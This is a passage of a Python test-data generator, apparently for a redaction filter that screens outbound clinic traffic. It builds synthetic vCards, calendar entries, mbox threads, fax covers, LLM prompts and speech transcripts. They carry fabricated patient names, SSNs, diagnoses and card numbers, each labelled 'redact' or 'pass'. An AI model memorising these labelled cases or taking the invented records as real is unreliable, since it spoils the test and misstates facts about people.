                      part("text/x-vcard; charset=utf-8", None, vcf)], bnd)
    add(S, "POST", f"{MM7}/mm7/submit", {"Content-Type": f"multipart/related; boundary=\"{bnd}\"; type=\"text/xml\"", "SOAPAction": "\"\""}, body, [], [PRACTICE_PHONE], "pass")


# ============================================================================= 8. vCard and iCalendar to a contact/calendar sync service (no BAA)
def vcard_ical():
    S = "vcard_ical"
    CH = {"Authorization": "Bearer " + alnum(40)}
    p = nextacc()
    n = qp(f"{p.last};{p.first};;;"); fn = qp(p.full); adr = qp(f";;{p.street} {p.unit};{p.city};LA;{p.zip};USA", force=[p.street]); note = qp(f"Diagnostic : {p.dx()} — suivi mensuel")
    vcf = (f"BEGIN:VCARD\r\nVERSION:2.1\r\nN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{n}\r\nFN;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{fn}\r\n"
           f"TEL;CELL;PREF:{p.phone('paren')}\r\nADR;HOME;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{adr}\r\nBDAY:{p.dobs('d8')}\r\n"
           f"NOTE;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{note}\r\nEND:VCARD\r\n")
    add(S, "PUT", f"{CARDS}/carddav/btfm/patients/{uuid()}.vcf", {"Content-Type": "text/x-vcard; charset=utf-8", **CH}, vcf,
        forms([(n, "utf-8"), (fn, "utf-8"), (adr, "utf-8"), (note, "utf-8")], [(p.first, "name"), (p.last, "name"), (p.street, "address"), (p.zip, "zip"), (p.dx(), "condition")])
        + [[p.phone("paren"), "phone"], [p.dobs("d8"), "dob"]], [], "redact")
    p = nextp()
    photo = b64wrap(bytes(R.getrandbits(8) for _ in range(90)))
    vcf = (f"BEGIN:VCARD\r\nVERSION:4.0\r\nFN:{p.full}\r\nN:{p.last};{p.first};;;\r\nBDAY:{p.dobs('iso')}\r\nTEL;VALUE=uri;TYPE=cell:tel:{p.phone('e164')}\r\n"
           f"EMAIL:{p.email}\r\nPHOTO:data:image/jpeg;base64,{photo.replace(chr(13) + chr(10), '')}\r\nNOTE:{p.dx()}\\, insulin pump since 2024\r\nEND:VCARD\r\n")
    add(S, "PUT", f"{CARDS}/carddav/btfm/patients/{uuid()}.vcf", {"Content-Type": "text/vcard; charset=utf-8", **CH}, vcf,
        [[p.full, "name"], [p.dobs("iso"), "dob"], [p.phone("e164"), "phone"], [p.email, "email"], [p.dx(), "condition"]], [], "redact")
    p = nextascii()
    summ = f"SUMMARY:Follow-up visit - {p.full} - {p.dx()} - room 4 - bring glucose meter and log"
    folded = fold(summ, 40)
    ics = "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", f"UID:{uuid()}", f"DTSTART:{p.at('ics')}", folded,
                       fold(f"DESCRIPTION:DOB {p.dobs('us')}\\nCell {p.phone('dash')}\\nAddress {p.street}\\, {p.city} {p.zip}", 60), "END:VEVENT", "END:VCALENDAR", ""])
    fl = []
    for v, k in [(p.full, "name"), (p.dx(), "condition"), (p.dobs("us"), "dob"), (p.phone("dash"), "phone"), (p.street, "address"), (p.zip, "zip"), (p.at("ics"), "date")]:
        rx = "(?:\r\n )?".join(re.escape(c) for c in v)
        got = [[m.group(0), k] for m in re.finditer(rx, ics)]
        assert got, v
        fl += got
    add(S, "PUT", f"{CARDS}/caldav/btfm/clinic/{uuid()}.ics", {"Content-Type": "text/calendar; charset=utf-8", **CH}, ics, fl, [], "redact")
    p = nextp()
    ics = "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", "METHOD:PUBLISH", "BEGIN:VEVENT", f"UID:{uuid()}", f"DTSTART;TZID=America/Chicago:{p.at('ics')}",
                       f"ATTENDEE;CN=\"{p.last}, {p.first}\";ROLE=REQ-PARTICIPANT:mailto:{p.email}", f"SUMMARY:Telehealth \\; {p.dx()}", f"X-BTFM-MRN:{p.mrn}", "END:VEVENT", "END:VCALENDAR", ""])
    add(S, "PUT", f"{CARDS}/caldav/btfm/clinic/{uuid()}.ics", {"Content-Type": "text/calendar; charset=utf-8", **CH}, ics,
        NM(p) + [[p.email, "email"], [p.dx(), "condition"], [p.mrn, "mrn"], [p.at("ics"), "date"]], [], "redact")
    p = nextp()
    jc = ["vcard", [["version", {}, "text", "4.0"], ["fn", {}, "text", p.full], ["bday", {}, "date", p.dobs("iso")], ["tel", {"type": "cell"}, "uri", "tel:" + p.phone("e164")],
                    ["adr", {}, "text", ["", "", p.street, p.city, "LA", p.zip, "USA"]]]]
    add(S, "POST", f"{CARDS}/v1/jcard", {"Content-Type": "application/vcard+json", **CH}, J(jc),
        [[p.full, "name"], [p.dobs("iso"), "dob"], [p.phone("e164"), "phone"], [p.street, "address"], [p.zip, "zip"]], [], "redact")

    S = "vcard_ical_clean"
    vcf = (f"BEGIN:VCARD\r\nVERSION:2.1\r\nORG;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{qp(PRACTICE)}\r\nTEL;WORK;VOICE:{PRACTICE_PHONE}\r\nTEL;WORK;FAX:{PRACTICE_FAX}\r\n"
           f"ADR;WORK;CHARSET=UTF-8;ENCODING=QUOTED-PRINTABLE:{qp(';;' + PRACTICE_ADDR + ';New Iberia;LA;' + PRACTICE_ZIP + ';USA')}\r\nEMAIL;INTERNET:{PRACTICE_EMAIL}\r\nEND:VCARD\r\n")
    add(S, "PUT", f"{CARDS}/carddav/btfm/org/main.vcf", {"Content-Type": "text/x-vcard; charset=utf-8", **CH}, vcf, [], [PRACTICE_PHONE, PRACTICE_FAX, PRACTICE_EMAIL], "pass")
    ics = "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", f"UID:{uuid()}", "DTSTART;TZID=America/Chicago:20260415T120000", "DURATION:PT1H",
                       fold("SUMMARY:Staff meeting - EHR upgrade to 7.4.0 and new phone tree (press 1 for appointments\\, 2 for refills)", 60),
                       "LOCATION:Break room", "RRULE:FREQ=MONTHLY;BYDAY=3WE", "END:VEVENT", "END:VCALENDAR", ""])
    add(S, "PUT", f"{CARDS}/caldav/btfm/staff/{uuid()}.ics", {"Content-Type": "text/calendar; charset=utf-8", **CH}, ics, [], ["Break room", "FREQ=MONTHLY;BYDAY=3WE"], "pass")
    ics = "\r\n".join(["BEGIN:VCALENDAR", "VERSION:2.0", "BEGIN:VEVENT", "UID:{{appointment.id}}@" + SITE, "DTSTART:{{appointment.start_utc}}",
                       "SUMMARY:Visit with {{provider.name}}", "ATTENDEE;CN={{patient.full_name}}:mailto:{{patient.email}}", "END:VEVENT", "END:VCALENDAR", ""])
    add(S, "PUT", f"{CARDS}/v1/templates/visit.ics", {"Content-Type": "text/calendar; charset=utf-8", **CH}, ics, [], ["{{patient.full_name}}"], "pass")


# ============================================================================= 9. mbox files and forwarded threads
def mbox_threads():
    S = "mbox_thread"
    AH = {"Authorization": "Bearer " + alnum(40)}
    p1, p2 = nextp(), nextp()
    m1 = (f"From {p1.email} {tstamp(1):%a %b %d %H:%M:%S %Y}\nFrom: \"{p1.full}\" <{p1.email}>\nTo: {PRACTICE_EMAIL}\nSubject: question\nDate: {rfc2822(1)}\n\n"
          f"Hello, my daughter was seen {p1.ad('us')}. Her birthday is {p1.dobs('us')}.\n>From what the nurse said she may have {p1.dx()}. Call me at {p1.phone('paren')}.\n\n")
    m2 = (f"From {PRACTICE_EMAIL} {tstamp(2):%a %b %d %H:%M:%S %Y}\nFrom: {FROM_FD}\nTo: \"{p2.full}\" <{p2.email}>\nSubject: Re: billing\nDate: {rfc2822(2)}\n\n"
          f"We updated your address to {p2.street}, {p2.city} {p2.zip}.\n\n> On {rfc2822(0)}, {p2.first} wrote:\n> My SSN on the statement is wrong, it should be {p2.ssn}.\n>> Previous statement attached.\n\n")
    add(S, "POST", f"{ARCH}/v1/import/mbox?mailbox=frontdesk", {"Content-Type": "application/mbox", **AH}, m1 + m2,
        [[p1.full, "name"], [p1.email, "email"], [p1.ad("us"), "date"], [p1.dobs("us"), "dob"], [p1.dx(), "condition"], [p1.phone("paren"), "phone"],
         [p2.full, "name"], [p2.email, "email"], [p2.street, "address"], [p2.zip, "zip"], [p2.first, "name"], [p2.ssn, "ssn"]], ["mailbox=frontdesk"], "redact")
    p = nextp()
    body = (f"---------- Forwarded message ---------\nFrom: {p.full} <{p.email}>\nDate: {rfc2822(3)}\nSubject: my results\n\n"
            f"> > Hi Dr. Landry, I saw my A1c is 9.2 - does that mean my {p.dx()} is worse?\n> > My new number is {p.phone('dot')} and DOB {p.dobs('usn')}.\n"
            f"> Forwarding to nurse line.\n")
    qpb = qp(body, force=[p.phone("dot")])
    raw = mail(std_headers(f"Front Desk <{PRACTICE_EMAIL}>", f"nurses@{SITE}", "Fwd: my results", 3, [("Content-Type", "text/plain; charset=utf-8"), ("Content-Transfer-Encoding", "quoted-printable")]), qpb)
    add(S, "POST", f"{ARCH}/v1/import/eml", {**RFC822H, **AH}, raw,
        forms([(qpb, "utf-8")], [(p.full, "name"), (p.email, "email"), (p.dx(), "condition"), (p.phone("dot"), "phone"), (p.dobs("usn"), "dob")], ALLOW_MAIL), ["Fwd: my results"], "redact")
    p = nextp()
    body = (f"Pasting the thread below.\n\nOn {rfc2822(4)} {p.first}\n{p.last} <{p.email}> wrote:\n> I live at {p.street}\n> {p.city}, LA {p.zip} and my\n"
            f"> member id is {p.mbr}. My son has {p.dx()}.\n")
    add(S, "POST", f"{DESK}/api/v2/tickets.json", {**JSONH, "X-Api-Key": alnum(32)}, J({"ticket": {"subject": "Thread from patient", "comment": {"body": body}}}),
        NM(p) + [[p.email, "email"], [p.street, "address"], [p.zip, "zip"], [p.mbr, "member_id"], [p.dx(), "condition"]], ["Thread from patient"], "redact")
    p = nextp()
    inner = f"Patient {p.full}, DOB {p.dobs('us')}, SSN {p.ssn}\n"
    blob = b64wrap(inner.encode()); bnd = boundary()
    msg = (f"From MAILER-DAEMON {tstamp(5):%a %b %d %H:%M:%S %Y}\n" + mail([("From", f"scanner@{SITE}"), ("To", f"records@{SITE}"), ("Subject", "scan"), ("Date", rfc2822(5)),
           ("MIME-Version", "1.0"), ("Content-Type", f"multipart/mixed; boundary=\"{bnd}\"")],
           multipart([part("text/plain", "7bit", "See attachment.\r\n"), part("text/plain; name=\"ocr.txt\"", "base64", blob)], bnd)).replace("\r\n", "\n"))
    add(S, "POST", f"{ARCH}/v1/import/mbox?mailbox=records", {"Content-Type": "application/mbox", **AH}, msg, [[blob.replace("\r\n", "\n"), "ssn"]], ["mailbox=records"], "redact")
    p = nextp()
    txt = (f">>> {p.first} wrote on Monday:\n>>> the pharmacy says I need a new script for {p.med()}\n>>> ({p.dx()}) and my phone is {p.phone('dash')}\n"
           f">> Forwarding to Dr. Landry\n> Done, sent to pharmacy.\nClosing this out.\n")
    add(S, "POST", f"{ARCH}/v1/import/text", {**TEXTH, **AH}, txt, [[p.first, "name"], [p.dx(), "condition"], [p.phone("dash"), "phone"]], ["Closing this out."], "redact")

    S = "mbox_clean"
    m = (f"From news@vendor.example {tstamp(6):%a %b %d %H:%M:%S %Y}\nFrom: Medline <news@vendor.example>\nTo: {PRACTICE_EMAIL}\nSubject: April supply specials\n\n"
         f"Order #SO-4471093 shipped. Tracking 1Z999AA10123456784.\n>From our warehouse in Baton Rouge.\n\n"
         f"From billing@vendor.example {tstamp(7):%a %b %d %H:%M:%S %Y}\nFrom: billing@vendor.example\nTo: {PRACTICE_EMAIL}\nSubject: Invoice INV-2026-0331\n\nAmount due $1,284.50 by 2026-04-30.\n")
    add(S, "POST", f"{ARCH}/v1/import/mbox?mailbox=vendors", {"Content-Type": "application/mbox", **AH}, m, [], ["SO-4471093", "INV-2026-0331", "$1,284.50"], "pass")
    txt = "> > Can we move the staff meeting to 12:30?\n> Yes, and order more 3 mL syringes (SKU 309657).\nDone - PO-2026-0412.\n"
    add(S, "POST", f"{ARCH}/v1/import/text", {**TEXTH, **AH}, txt, [], ["SKU 309657", "PO-2026-0412"], "pass")


# ============================================================================= 10. fax cover sheets as text
def luhn_card(prefix="4", n=16):
    body = prefix + "".join(str(R.randint(0, 9)) for _ in range(n - len(prefix) - 1))
    for c in "0123456789":
        s = body + c; tot = 0
        for i, ch in enumerate(reversed(s)):
            d = int(ch)
            if i % 2 == 1:
                d *= 2
                if d > 9: d -= 9
            tot += d
        if tot % 10 == 0: return s


def fax_cover():
    S = "fax_cover"
    FH = {**JSONH, "Authorization": "Bearer " + alnum(40)}
    p = nextp()
    cov = (f"{'FAX':^60}\n{'-' * 60}\nDATE: {date(2026, 4, 7):%m/%d/%Y}{'':10}PAGES: 3\nTO: Lafayette General Records{'':6}FAX: (337) 289-8112\nFROM: {PRACTICE}\n"
           f"{'-' * 60}\nRE: {p.last.upper()}, {p.first.upper()}    DOB: {p.dobs('us')}    MRN: {p.mrn}\nSSN: {p.ssn}\nE-MAIL: {p.email}\n"
           f"COMMENTS: Please send the {p.ad('us')} ED notes ({p.dx()}).\n")
    add(S, "POST", f"{FAX}/v2/faxes", FH, J({"to": "+13372898112", "cover_text": cov, "file_ids": [uuid()]}),
        [[p.last.upper(), "name"], [p.first.upper(), "name"], [p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.ssn, "ssn"], [p.email, "email"], [p.ad("us"), "date"], [p.dx(), "condition"]],
        ["+13372898112", "Lafayette General Records"], "redact")
    p = nextp()
    cov = f"Fax cover\nPatient: {p.full}\nDOB: {p.dobs('us')}\nPatient portal login e-mail: {p.email}\nIP of last login: {p.ip}\n"
    fb = "------------------------" + digits(16)
    pdf = b64wrap(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n")
    body = form_data([("to", "+13372898112", None, None), ("cover", cov, "cover.txt", "text/plain; charset=utf-8"),
                      ("file", pdf, "records.pdf", "application/pdf")], fb)
    add(S, "POST", f"{FAX}/v2/faxes/multipart", {"Content-Type": f"multipart/form-data; boundary={fb}", "Authorization": "Bearer " + alnum(40)}, body,
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.email, "email"], [p.ip, "ip_address"]], ["records.pdf", "+13372898112"], "redact")
    p = nextp()
    cov = f"FAX COVER\r\nRE: {p.full}  DOB {p.dobs('us')}\r\nSSN {p.ssn}\r\nCopay card on file: {luhn_card()}\r\n"
    card = re.search(r"Copay card on file: (\d+)", cov).group(1)
    fb = "------------------------" + digits(16)
    body = (f"--{fb}\r\nContent-Disposition: form-data; name=\"to\"\r\n\r\n+13372898112\r\n--{fb}\r\nContent-Disposition: form-data; name=\"cover\"; filename=\"cover.txt\"\r\n"
            f"Content-Type: text/plain; charset=utf-16\r\n\r\n").encode() + cov.encode("utf-16") + f"\r\n--{fb}--\r\n".encode()
    add(S, "POST", f"{FAX}/v2/faxes/multipart", {"Content-Type": f"multipart/form-data; boundary={fb}", "Authorization": "Bearer " + alnum(40)}, body,
        U16([(p.full, "name"), (p.dobs("us"), "dob"), (p.ssn, "ssn"), (card, "card_number")]), ["+13372898112"], "redact")
    p = nextacc()
    cov = f"TÉLÉCOPIE\r\nDestinataire : Clinique Opelousas\r\nPatient : {p.full}   Né(e) le : {p.dobs('dmy')}\r\nNSS : {p.ssn}\r\n"
    add(S, "POST", f"{FAX}/v2/faxes/cover?to=13379484411", {"Content-Type": "text/plain; charset=iso-8859-1", "Authorization": "Bearer " + alnum(40)}, cov.encode("latin-1"),
        [[seen(p.full, "latin-1"), "name"], [p.dobs("dmy"), "dob"], [p.ssn, "ssn"]], ["13379484411"], "redact")
    p = nextp()
    cov = f"FAX FAILED (busy x3)\nTO: (337) 289-8112\nRE: {p.full} DOB {p.dobs('us')} MRN {p.mrn}\nDx: {p.dx()}\n"
    add(S, "POST", f"{DESK}/api/v2/tickets.json", {**JSONH, "X-Api-Key": alnum(32)}, J({"ticket": {"subject": "Fax failed", "comment": {"body": cov}}}),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.mrn, "mrn"], [p.dx(), "condition"]], ["Fax failed", "(337) 289-8112"], "redact")
    p = nextp()
    cov = f"RE: {p.full} / {p.dobs('us')} / {p.payer} {p.mbr}\nAddress: {p.street}, {p.city}, LA {p.zip}\nPlease verify benefits for {p.icd()}.\n"
    add(S, "POST", f"{FAX}/v2/faxes", FH, J({"to": "+18005551234", "cover_text": cov}),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.mbr, "member_id"], [p.street, "address"], [p.zip, "zip"], [p.icd(), "icd10"]], ["+18005551234"], "pass")

    S = "fax_clean"
    cov = (f"{'FAX':^60}\nDATE: __________   PAGES: ___\nTO: ______________________   FAX: ______________\nFROM: {PRACTICE}   PHONE: {PRACTICE_PHONE}   FAX: {PRACTICE_FAX}\n"
           f"RE: __________________   DOB: __/__/____\nThis facsimile contains confidential information.\n")
    add(S, "PUT", f"{FAX}/v2/cover-templates/standard", FH, J({"name": "standard", "text": cov}), [], [PRACTICE_PHONE, PRACTICE_FAX], "pass")
    cov = f"TO: Teche Regional Medical Records\nFROM: {PRACTICE} ({PRACTICE_FAX})\nRE: Updated release-of-information policy, effective 2026-05-01. 2 pages.\n"
    add(S, "POST", f"{FAX}/v2/faxes", FH, J({"to": "+13373806000", "cover_text": cov}), [], ["+13373806000", "2026-05-01", PRACTICE_FAX], "pass")
    add(S, "GET", f"{FAX}/v2/faxes/{uuid()}/status?include=pages,attempts", {"Authorization": "Bearer " + alnum(40)}, "", [], ["include=pages,attempts"], "pass")


# ============================================================================= 11. AI chatbot prompts
def llm_chat():
    S = "llm_chat"
    LH = {**JSONH, "Authorization": "Bearer cg-" + alnum(40)}
    FH = {**JSONH, "Authorization": "Bearer fc-" + alnum(40)}
    SYSTEM = "You are a clinical documentation assistant for a family medicine practice. Be concise."
    # 1: chat narrative to the LLM with a BAA (condition and dates allowed)
    p = nextp()
    msg = (f"Write a SOAP note. {p.full} is a {2026 - p.dob.year}-year-old seen on {p.ad('long')} for {p.dx()}. DOB {p.dobs('us')}. "
           f"Lives at {p.street}, {p.city}. Daughter can be reached at {p.phone('paren')}.")
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": [{"role": "system", "content": SYSTEM}, {"role": "user", "content": msg}]}),
        [[p.full, "name"], [p.ad("long"), "date"], [p.dx(), "condition"], [p.dobs("us"), "dob"], [p.street, "address"], [p.phone("paren"), "phone"]], [SYSTEM], "redact")
    # 2: content-part array, Spanish narrative, ensure_ascii escapes
    p = pick([q for q in PATIENTS if q.last in ("Ramírez", "Castañeda", "Peña", "Ibáñez", "Sepúlveda")], "es")
    parts = [{"type": "text", "text": "Traduce al inglés la siguiente nota:"},
             {"type": "text", "text": f"Paciente {p.full}, fecha de nacimiento {p.dobs('dmy')}, número de expediente {p.mrn}. Diagnóstico: {p.dx()}. Teléfono {p.phone('spc')}."}]
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, json.dumps({"model": "cgpt-med-2", "messages": [{"role": "user", "content": parts}]}),
        [[p.full, "name"], [p.dobs("dmy"), "dob"], [p.mrn, "mrn"], [p.dx(), "condition"], [p.phone("spc"), "phone"]], ["Traduce al inglés la siguiente nota:"], "redact")
    # 3: a raw quoted-printable e-mail pasted into the prompt
    p = nextacc()
    em = qp(f"From: {p.full} <{p.email}>\nSubject: refill\n\nBonjour, je m'appelle {p.full}, née le {p.dobs('dmy')}. J'ai besoin de mon {p.med()} pour mon {p.dx()}. "
            f"Mon numéro : {p.phone('dot')}. Merci !", "iso-8859-1", force=[p.phone("dot"), p.dobs("dmy")])
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": [{"role": "system", "content": "Summarize the patient e-mail below for the nurse inbox."},
                                                                                             {"role": "user", "content": em}]}),
        forms([(em, "iso-8859-1")], [(p.first, "name"), (p.last, "name"), (p.email, "email"), (p.dobs("dmy"), "dob"), (p.dx(), "condition"), (p.phone("dot"), "phone")]),
        ["Summarize the patient e-mail below for the nurse inbox."], "redact")
    # 4: multi-turn, the assistant echoes the name and MRN
    p = nextp()
    msgs = [{"role": "system", "content": SYSTEM}, {"role": "user", "content": f"Look up {p.last}, {p.first}, MRN {p.mrn}."},
            {"role": "assistant", "content": f"I can't access the EHR, but I can help draft notes for {p.first} {p.last} ({p.mrn})."},
            {"role": "user", "content": f"Draft a letter: return to work on {p.ad('us')} after {p.dx()} flare. Her member ID is {p.mbr}."}]
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": msgs}),
        NM(p) + [[p.mrn, "mrn"], [p.ad("us"), "date"], [p.dx(), "condition"], [p.mbr, "member_id"]], [], "redact")
    # 5: tool-call arguments as a JSON string inside the conversation
    p = nextp()
    args = J({"patient_name": p.full, "dob": p.dobs("iso"), "callback": p.phone("e164"), "reason": p.dx()})
    msgs = [{"role": "user", "content": "Schedule a nurse callback for this patient."},
            {"role": "assistant", "content": None, "tool_calls": [{"id": "call_" + alnum(24), "type": "function", "function": {"name": "create_callback", "arguments": args}}]},
            {"role": "tool", "tool_call_id": "call_" + alnum(24), "content": J({"ok": True, "ticket": "CB-" + digits(6)})}]
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": msgs, "tools": [{"type": "function", "function": {"name": "create_callback", "parameters": {"type": "object"}}}]}),
        [[p.full, "name"], [p.dobs("iso"), "dob"], [p.phone("e164"), "phone"], [p.dx(), "condition"]], ["create_callback"], "redact")
    # 6: Responses-API-like input array with input_text parts
    p = nextp()
    inp = [{"role": "user", "content": [{"type": "input_text", "text": f"Patient {p.first} {p.last} ({p.email}) asks whether {p.med()} is safe with her {p.dx()}. "
                                                                           f"Seen {p.ad('long')}."}]}]
    add(S, "POST", f"{LLM}/v1/responses", LH, J({"model": "cgpt-med-2", "input": inp, "store": False}),
        NM(p) + [[p.email, "email"], [p.dx(), "condition"], [p.ad("long"), "date"]], ["input_text"], "redact")
    # 7: completion-style prompt with the HL7-ish header the EHR pastes
    p = nextp()
    prompt = f"### Patient\nName: {p.last}^{p.first}\nDOB: {p.dobs('d8')}\nMRN: {p.mrn}\nSSN: {p.ssn}\n### Problem\n{p.icd()} {p.dx()}\n### Task\nWrite discharge instructions.\n"
    add(S, "POST", f"{LLM}/v1/completions", LH, J({"model": "cgpt-med-2", "prompt": prompt, "max_tokens": 600}),
        NM(p) + [[p.dobs("d8"), "dob"], [p.mrn, "mrn"], [p.ssn, "ssn"], [p.icd(), "icd10"], [p.dx(), "condition"]], ["Write discharge instructions."], "redact")
    # 8: the portal chatbot to a free LLM (nothing allowed)
    p = nextp()
    msg = f"hi im {p.first.lower()} {p.last.lower()}, i was diagnosed with {p.dx()} in {MONTHS[p.appt.month - 2]} and my dr wont call back. my number is {p.phone('dash')}"
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", FH, J({"model": "free-chat-1", "messages": [{"role": "user", "content": msg}], "user": p.email}),
        [[p.first.lower(), "name"], [p.last.lower(), "name"], [p.dx(), "condition"], [p.phone("dash"), "phone"], [p.email, "email"]], ["free-chat-1"], "redact")
    # 9: embeddings of a note to the free LLM
    p = nextp()
    add(S, "POST", f"{LLMFREE}/v1/embeddings", FH, J({"model": "free-embed-1", "input": [f"{p.full} {p.dobs('us')} {p.dx()} {p.street} {p.zip}", "generic chunk about clinic hours"]}),
        [[p.full, "name"], [p.dobs("us"), "dob"], [p.dx(), "condition"], [p.street, "address"], [p.zip, "zip"]], ["generic chunk about clinic hours"], "redact")
    # 10: prompt carrying an e-mail header with RFC 2047 words
    p = nextacc()
    hdr = f"From: {ew_q(p.full)} <{p.email}>\nSubject: {ew_b('Question about my ' + p.dx())}\n"
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": [{"role": "user", "content": "Decode these headers and triage:\n" + hdr}]}),
        [[ew_q_word(p.last), "name"], [p.email, "email"]], ["Decode these headers and triage:"], "redact")

    S = "llm_clean"
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": [{"role": "system", "content": SYSTEM},
        {"role": "user", "content": "Explain what an A1c of 7% means to a patient at a 6th-grade reading level, in English and Vietnamese."}]}), [],
        ["A1c of 7%"], "pass")
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", FH, J({"model": "free-chat-1", "messages": [{"role": "user", "content":
        "Rewrite this template so it sounds friendlier: 'Hi {{first_name}}, your appointment on {{appt_date}} at {{appt_time}} is confirmed. Call (337) 365-4410 to reschedule.'"}]}),
        [], ["{{first_name}}", PRACTICE_PHONE], "pass")
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", FH, json.dumps({"model": "free-chat-1", "messages": [{"role": "user", "content":
        "Traduis en français cajun : « Les vaccins contre la grippe sont gratuits ce mois-ci. »"}]}), [], ["free-chat-1"], "pass")
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": [{"role": "user", "content":
        "Summarize: March visits 4,812 (up 6.2%), no-show rate 6.1%, 611 flu shots, median wait 11 minutes, 38 new diabetes-education enrollees."}]}), [], ["4,812", "6.1%"], "pass")
    add(S, "POST", f"{LLMFREE}/v1/chat/completions", FH, J({"model": "free-chat-1", "messages": [{"role": "user", "content":
        f"Draft a sign for the lobby: clinic hours Mon-Fri 8-5, {PRACTICE_ADDR}, New Iberia LA {PRACTICE_ZIP}; after-hours nurse line {PRACTICE_PHONE}."}]}),
        [], [PRACTICE_ADDR, PRACTICE_PHONE], "pass")
    add(S, "POST", f"{LLM}/v1/chat/completions", LH, J({"model": "cgpt-med-2", "messages": [{"role": "user", "content":
        "List the ICD-10 codes for type 2 diabetes without complications and essential hypertension."}]}), [], ["ICD-10 codes"], "pass")


# ============================================================================= 12. transcription results with word-level timestamps
def words_of(transcript, t0=0.4, style="dg"):
    out, t = [], t0
    for tok in transcript.split():
        d = round(0.12 + 0.03 * len(tok), 2); w = re.sub(r"[^\w'-]", "", tok).lower() or tok
        if style == "dg":
            out.append({"word": w, "start": round(t, 2), "end": round(t + d, 2), "confidence": round(0.86 + R.random() * 0.13, 3), "punctuated_word": tok})
        elif style == "aai":
            out.append({"text": tok, "start": int(t * 1000), "end": int((t + d) * 1000), "confidence": round(0.86 + R.random() * 0.13, 3), "speaker": "A"})
        t += d + 0.05
    return out


def asr_words():
    S = "asr_words"
    # 1: Deepgram-like result to call QA (nothing allowed)
    p = nextascii()
    tr = (f"Hi, this is {p.first} {p.last}. My date of birth is {p.dobs('long')} and my number is {p.phone('dash')}. "
          f"I need a refill for my {p.dx()} medicine.")
    o = {"metadata": {"request_id": uuid(), "duration": 14.2, "channels": 1}, "results": {"channels": [{"alternatives": [{"transcript": tr, "confidence": 0.97, "words": words_of(tr)}]}]}}
    add(S, "POST", f"{CALLQA}/v1/transcripts?vendor=dg", JSONH, J(o),
        NM(p) + [[p.dobs("long"), "dob"], [p.phone("dash"), "phone"], [p.dx(), "condition"]], ["vendor=dg"], "redact")
    # 2: AssemblyAI-like words ("text" per word) without the full text
    p = nextascii()
    tr = f"Yes ma'am, it's {p.first} {p.last}, L-A-S-T name {p.last}, and the street is {p.street}."
    o = {"id": uuid(), "status": "completed", "words": words_of(tr, style="aai"), "audio_duration": 9}
    add(S, "POST", f"{CALLQA}/v1/transcripts?vendor=aai", JSONH, J(o), NM(p), ["completed"], "redact")
    # 3: AWS Transcribe-like items (pronunciation / punctuation) to the LLM with a BAA
    p = nextascii()
    tr = f"Patient {p.first} {p.last} , born {p.dobs('us')} , reports worsening {p.dx()} ."
    items = []
    for i, tok in enumerate(tr.split()):
        typ = "punctuation" if tok in (",", ".") else "pronunciation"
        it = {"type": typ, "alternatives": [{"confidence": "0.0" if typ == "punctuation" else f"{0.9 + R.random() * 0.09:.4f}", "content": tok}]}
        if typ == "pronunciation": it.update({"start_time": f"{0.5 + i * 0.4:.2f}", "end_time": f"{0.8 + i * 0.4:.2f}"})
        items.append(it)
    o = {"model": "cgpt-med-2", "messages": [{"role": "user", "content": "Summarize this visit audio transcript JSON:\n" + J({"jobName": "visit-" + digits(6),
         "results": {"transcripts": [{"transcript": tr.replace(" ,", ",").replace(" .", ".")}], "items": items}})}]}
    add(S, "POST", f"{LLM}/v1/chat/completions", {**JSONH, "Authorization": "Bearer cg-" + alnum(40)}, J(o),
        NM(p) + [[p.dobs("us"), "dob"], [p.dx(), "condition"]], ["Summarize this visit audio transcript JSON:"], "redact")
    # 4: Whisper-like sub-word tokens that split the surname, words only
    p = pick([q for q in PATIENTS if q.last in ("Thibodeaux", "Babineaux", "Robichaux", "Landreneau", "Boudreaux")], "split")
    a, b = p.last[:4], p.last[4:]
    ws = [{"word": w, "start": round(0.3 + i * 0.21, 2), "end": round(0.5 + i * 0.21, 2), "probability": round(0.7 + R.random() * 0.29, 3)}
          for i, w in enumerate([" My", " name", " is", " " + p.first, " " + a, b, ",", " date", " of", " birth", " " + p.dobs("us"), "."])]
    add(S, "POST", f"{CALLQA}/v1/words", JSONH, J({"call_id": "c-" + digits(8), "words": ws}),
        [[p.first, "name"], [a, "name"], [b, "name"], [p.dobs("us"), "dob"]], [], "redact")
    # 5: the patient spells the surname letter by letter
    p = nextascii()
    spelled = "-".join(p.last.upper())
    tr = f"That's {p.first}, last name {spelled}, and my member ID is {p.mbr}."
    o = {"results": {"channels": [{"alternatives": [{"transcript": tr, "words": words_of(tr)}]}]}}
    add(S, "POST", f"{CALLQA}/v1/transcripts?vendor=dg", JSONH, J(o), [[p.first, "name"], [spelled, "name"], [p.mbr, "member_id"]], ["vendor=dg"], "redact")
    # 6: custom vocabulary job to the transcription vendor: names allowed, the MRN in the callback is not
    p = nextp()
